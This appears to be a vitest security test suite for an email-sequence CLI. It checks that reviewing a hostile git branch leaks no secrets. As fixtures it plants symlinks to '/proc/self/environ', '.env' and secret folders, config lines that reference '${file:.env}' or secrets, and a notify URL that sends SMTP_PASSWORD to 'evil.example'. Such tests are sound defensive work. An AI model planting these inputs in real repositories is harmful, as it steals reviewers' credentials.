import { spawnSync } from "node:child_process";
import {
  chmodSync,
  existsSync,
  mkdirSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { makeFolder } from "../cli/run-seq.ts";
import { enrollPeople, expectPlain, type Field, MONDAY, makeField, ONE_MAIL } from "../faults/field.ts";

/** What the reviewer's machine holds and a change wants. */
const CANARY = "CANARY-4711";
const ENV = { SMTP_PASSWORD: CANARY, AWS_SECRET_ACCESS_KEY: CANARY, HOSTILE: CANARY };

const RENDERS = (name: string) =>
  `name: one-mail\nsteps:\n  - { id: a, do: email, subject: x, body: "A word. {% render '${name}' %}" }\n`;
const renderIn = (snippet: string, nth: number) =>
  [`render-${nth}`, RENDERS(snippet).replace("one-mail", `render-${nth}`)] as const;
const TEST = `tests:
  - name: x
    start: 2026-03-04T08:00[UTC]
    prospect: { first_name: Jin, company: Hanbit, email: jin@hanbit.example, country: KR }
    expect: [{ finished: true }]
`;

const REVIEWS: readonly (readonly string[])[] = [
  ["plan"],
  ["plan", "--format", "markdown", "--people"],
  ["lint"],
  ["lint", "--format", "github"],
  ["test"],
  ["preview", "one-mail", "--worst", "--html", "page.html"],
  ["preview", "one-mail"],
  ["graph", "one-mail", "--counts"],
  ["approve"],
  ["simulate", "one-mail", "--people", "2"],
];

/** A workspace in a repository, as the reviewer has it; then the branch comes. */
function openBranch(field: Field, plant: (root: string) => void): void {
  const git = (...args: string[]) => {
    const identity = ["-c", "user.name=Rev", "-c", "user.email=rev@acme.example"];
    const { status, stderr } = spawnSync("git", ["-C", field.root, ...identity, ...args], {
      encoding: "utf8",
    });
    expect(status, stderr).toBe(0);
  };
  git("init", "-q");
  git("add", "-A");
  git("commit", "-qm", "base");
  git("config", "user.name", "Rev");
  git("config", "user.email", "rev@acme.example");
  plant(field.root);
}

/** Of these every other way of reviewing reads what one of them reads, too. */
const FEW = [REVIEWS[1], REVIEWS[3], REVIEWS[5]].filter((argv) => argv !== undefined);

async function review(field: Field, reviews: readonly (readonly string[])[] = FEW): Promise<string> {
  const ran = await Promise.all(reviews.map((argv) => field.binary(argv, ENV)));
  for (const { err, signal } of ran) {
    expect(signal).toBeNull();
    expectPlain(err);
  }
  const page = join(field.root, "page.html");
  return ran.map(({ out, err }) => out + err).join("") + (existsSync(page) ? readFileSync(page, "utf8") : "");
}

function replace(root: string, name: string, target: string): void {
  rmSync(join(root, name), { recursive: true, force: true });
  mkdirSync(join(root, name, ".."), { recursive: true });
  symlinkSync(target, join(root, name));
}

describe("a branch makes the review read the tree and nothing else", { timeout: 300_000 }, () => {
  const outside = () => {
    const folder = makeFolder();
    writeFileSync(join(folder, "leak.yaml"), `name: leak\n${CANARY}: [\n`);
    writeFileSync(join(folder, "leak.md"), CANARY);
    writeFileSync(join(folder, "seq.yaml"), `workspace: ${CANARY}\n`);
    return folder;
  };

  const hold = (field: Field) => {
    field.write("snippets/y.md", "y");
    for (const folder of ["secrets", "keys"]) {
      field.write(`${folder}/key`, CANARY);
      field.write(`${folder}/accounts.yaml`, `${CANARY}: [\n`);
      for (const file of ["key", "accounts.yaml"]) chmodSync(join(field.root, folder, file), 0o600);
    }
    writeFileSync(join(field.root, ".env"), `X=${CANARY}\n`, { mode: 0o600 });
  };
  const LEAK = /CANARY|PATH=|root:x?:0/;

  test.each<[string, string, string, string]>([
    ["snippets → /, a file", "leak", "snippets", "AWAY"],
    ["snippets → .", "secrets/key", "snippets", "."],
    ["snippets → secrets", "key", "snippets", "secrets"],
    ["snippets → keys", "key", "snippets", "keys"],
    ["sequences → elsewhere", "y", "sequences", "AWAY"],
    ["seq.yaml → elsewhere", "y", "seq.yaml", "AWAY/seq.yaml"],
  ])("%s", async (_, name, link, target) => {
    const field = makeField({ sequences: { "one-mail": RENDERS(name) } });
    hold(field);
    openBranch(field, (root) => replace(root, link, target.replace("AWAY", outside())));
    expect(await review(field)).not.toMatch(LEAK);
  });

  test("snippets → /, the environment, by every command of a review", async () => {
    const field = makeField({ sequences: { "one-mail": RENDERS("proc/self/environ") } });
    openBranch(field, (root) => replace(root, "snippets", "/"));
    expect(await review(field, REVIEWS)).not.toMatch(LEAK);
  });

  test("single files, by every command of a review", async () => {
    const away = outside();
    const links: Readonly<Record<string, string>> = {
      "snippets/a": "/proc/self/environ",
      "snippets/b.md": "../.env",
      "snippets/.env": "../.env",
      "sequences/leak-1.yaml": join(away, "leak.yaml"),
      "sequences/leak-2.yaml": "../secrets/accounts.yaml",
      "sequences/leak-3.yaml": "../keys/accounts.yaml",
      "sequences/one-mail.test.yaml": "/proc/self/environ",
      "approvals.yaml": join(away, "leak.yaml"),
    };
    const field = makeField({
      sequences: { "one-mail": ONE_MAIL, ...Object.fromEntries(["a", "b", ".env"].map(renderIn)) },
    });
    hold(field);
    openBranch(field, (root) => {
      for (const [link, target] of Object.entries(links)) replace(root, link, target);
    });
    const said = await review(field, REVIEWS);
    expect(said).not.toMatch(LEAK);
    expect(said).toContain("leak-1.yaml:1:1: error: This is a link");
  });

  test.each<[string, string]>([
    ["a signature", "    signature: ${SMTP_PASSWORD}"],
    ["a name", '    linkedin: "${SMTP_PASSWORD}"'],
    [
      "an address of the law",
      'compliance: { postal_address: "${file:.env}", data_source: "${SMTP_PASSWORD}" }',
    ],
    ["another's server", '    imap: "imaps://${HOSTILE}:${SMTP_PASSWORD}@127.0.0.1"'],
    ["the file of all secrets", '    imap: "imaps://a:${file:.env}@127.0.0.1"'],
    ["git's own settings", '    dkim: { domain: acme.example, selector: s, key: "${file:.git/config}" }'],
    ["a file above", '    dkim: { domain: acme.example, selector: s, key: "${file:../x}" }'],
    ["a database's name", "store: .seq/${SMTP_PASSWORD}.db"],
    ["a log-in as the database", "store: ${SMTP_PASSWORD}"],
    ["a notification", 'notify: [{ on: [replied], url: "https://evil.example/${SMTP_PASSWORD}" }]'],
  ])("%s shows no secret", async (_, line) => {
    const field = makeField();
    writeFileSync(join(field.root, ".env"), `X=${CANARY}\n`, { mode: 0o600 });
    openBranch(field, () => field.write("seq.yaml", `${field.read("seq.yaml").trimEnd()}\n${line}\n`));
    expect(await review(field)).not.toContain("CANARY");
    expect(existsSync(join(field.root, ".seq"))).toBe(false);
  });

  test.each<[string, (root: string, other: string) => void]>([
    [".seq as a link", (root, other) => replace(root, ".seq", join(other, ".seq"))],
    ["the database as a link", (root, other) => replace(root, ".seq/state.db", join(other, ".seq/state.db"))],
    [
      "a path to it",
      (root, other) =>
        writeFileSync(
          join(root, "seq.yaml"),
          `${readFileSync(join(root, "seq.yaml"), "utf8")}store: ${other}/.seq/state.db\n`,
        ),
    ],
  ])("another workspace's people, by %s", async (_, plant) => {
    const other = makeField();
    await enrollPeople(other, 2, "one-mail", "canary");
    const field = makeField();
    openBranch(field, (root) => plant(root, other.root));
    expect(await review(field)).not.toMatch(/canary\d@|P[01]\b|person/);
  });

  test("named files of a change are read as the tree is", async () => {
    const field = makeField();
    const away = outside();
    openBranch(field, (root) => replace(root, "docs/x.yaml", join(away, "leak.yaml")));
    for (const argv of [
      ["lint", "docs/x.yaml"],
      ["test", "docs/x.test.yaml"],
    ]) {
      if (argv[0] === "test")
        renameSync(join(field.root, "docs/x.yaml"), join(field.root, "docs/x.test.yaml"));
      const { code, out, err } = await field.binary(argv, ENV);
      expect(code).toBe(2);
      expect(out + err).not.toContain("CANARY");
    }
  });
});

test("a review needs no secret at all", { timeout: 300_000 }, async () => {
  const field = makeField({
    smtp: "smtps://anna:${SMTP_PASSWORD}@smtp.acme.example",
    sender: 'dkim: { domain: acme.example, selector: s1, key: "${file:secrets/dkim.pem}" }',
    extra: 'notify: [{ on: [replied], url: "${NOTIFY_URL}" }]\n',
  });
  field.write("seq.yaml", field.read("seq.yaml").replace("rehearsal: true\n", ""));
  field.write("sequences/one-mail.test.yaml", TEST);
  openBranch(field, () => undefined);
  for (const argv of REVIEWS) {
    const { code, out, err } = await field.binary(argv.filter((word) => word !== "--counts"));
    expect(code, argv.join(" ") + out + err).toBe(0);
  }
  // What acts still asks for them.
  expect((await field.binary(["run", "--now", MONDAY])).err).toMatch(/SMTP_PASSWORD is not set/);
});

describe("where a secret may stand", { timeout: 120_000 }, () => {
  test("a reference elsewhere is refused at its place", async () => {
    const field = makeField({ sender: 'signature: "x ${SMTP_PASSWORD}"' });
    const { code, out } = await field.binary(["lint", "--json"], ENV);
    expect(code).toBe(1);
    expect(JSON.parse(out)).toContainEqual(
      expect.objectContaining({ file: "seq.yaml", line: 9, column: 19, code: "misplaced-secret" }),
    );
  });

  test("where log-ins stand it is taken, whole or as a part", async () => {
    const field = makeField({
      smtp: '"${SMTP_URL}"',
      sender: 'imap: { url: "imap://${USER_NAME}:${SMTP_PASSWORD}@127.0.0.1" }',
      extra: 'store: "${STORE}"\n',
    });
    const env = { ...ENV, SMTP_URL: "smtp://a:b@127.0.0.1:9", USER_NAME: "anna", STORE: ".seq/x.db" };
    expect((await field.binary(["status"], env)).code).toBe(0);
    expect(existsSync(join(field.root, ".seq/x.db"))).toBe(true);
  });
});

test.each(["PWD", "OLDPWD", "HOME", "TMPDIR", "SSH_AUTH_SOCK", "TOKEN_FILE", "PASSWORD_STORE_DIR"])(
  "%s in the environment blanks out no path",
  async (name) => {
    const root = makeFolder();
    const { err } = await makeField().binary(["-C", join(root, "gone"), "status"], { [name]: root });
    expect(err).toContain(`${root}/gone`);
  },
);

test("more steps than anybody goes through are refused, at the first one too many", {
  timeout: 120_000,
}, async () => {
  const step = (n: number) =>
    `  - { id: s${n}, do: email, body: y, ${n === 0 ? "subject: x" : "thread: s0, when: steps.s0.replied"} }\n`;
  const text = `name: one-mail\nsteps:\n${Array.from({ length: 12_000 }, (_, n) => step(n)).join("")}`;
  expect(Buffer.byteLength(text)).toBeLessThan(1024 * 1024);
  const field = makeField({ sequences: { "one-mail": text } });
  const { code, out } = await field.binary(["lint", "--json"]);
  expect(code).toBe(1);
  expect(JSON.parse(out)).toContainEqual(
    expect.objectContaining({ code: "too-large", line: 1_003, column: 7 }),
  );
  const { err } = await field.binary(["preview", "one-mail"]);
  expect(err).toMatch(/sequences\/one-mail\.yaml:1003:7: A sequence has 1000 steps at most/);
});
